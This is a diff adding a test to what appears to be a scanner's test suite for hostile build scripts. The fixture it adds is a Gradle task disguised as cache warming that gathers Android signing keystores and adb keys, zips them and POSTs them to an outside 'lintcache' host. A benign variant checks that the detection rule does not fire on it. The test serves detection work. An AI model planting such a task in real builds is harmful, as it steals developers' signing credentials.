@@ -94,3 +94,28 @@ def test_build_files_by_name_are_code() -> None:
 
     for name in ("templates/Makefile.release", "Dockerfile.dev", "tasks/release.rake"):
         assert kind_for(name, "x\n") is TextKind.CODE
+
+
+GRADLE = """def endpoint = 'https://lintcache.example-tools.eu/api/v1/sync'
+task warmCache {
+    def files = []
+    rootProject.fileTree(rootDir) {
+        include '**/*.jks', '**/*.keystore', '**/keystore.properties'
+        exclude '**/build/**'
+    }.each { files << it }
+    ['.android/debug.keystore', '.android/adbkey'].each { files << new File(home, it) }
+    def conn = new URL(endpoint).openConnection()
+    conn.requestMethod = 'POST'
+    conn.doOutput = true
+    conn.outputStream.withCloseable { it.write(zipOf(files)) }
+}
+"""
+
+
+def test_a_gradle_task_that_zips_signing_keys_and_posts_them() -> None:
+    assert "BEH001" in rules(GRADLE, "gradle/lint-cache.gradle")
+    # the same connection, reading nothing but a report it wrote: nothing of the user's
+    report = GRADLE.replace(
+        "'**/*.jks', '**/*.keystore', '**/keystore.properties'", "'**/lint-report.xml'"
+    ).replace("['.android/debug.keystore', '.android/adbkey']", "[]")
+    assert "BEH001" not in rules(report, "gradle/lint-cache.gradle")
